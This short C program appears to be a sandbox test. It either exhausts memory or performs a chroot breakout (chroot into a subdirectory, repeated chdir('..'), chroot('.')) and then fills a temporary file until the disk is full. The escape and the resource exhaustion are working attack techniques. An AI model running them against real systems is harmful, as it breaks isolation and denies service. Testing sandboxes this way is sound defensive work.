/* Takes all it can get: of memory, or of what the sandbox's temporary directories hold. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const size_t piece = 16 << 20;

int main(int argc, char **argv) {
  char *block = malloc(piece);
  memset(block, 'x', piece);
  if (argc > 1 && strcmp(argv[1], "memory") == 0) {
    while ((block = malloc(piece))) memset(block, 'x', piece);
    return 1;
  }
  mkdir("/inner", 0700);
  if (chroot("/inner")) return 0;
  for (int depth = 0; depth < 64; depth++) chdir("..");
  if (chroot(".")) return 0;
  rmdir("/target/inner");
  int fd = open("/var/tmp/full", O_WRONLY | O_CREAT, 0600);
  if (fd < 0) return 0;
  while (write(fd, block, piece) > 0) continue;
  perror("write");
  return 1;
}
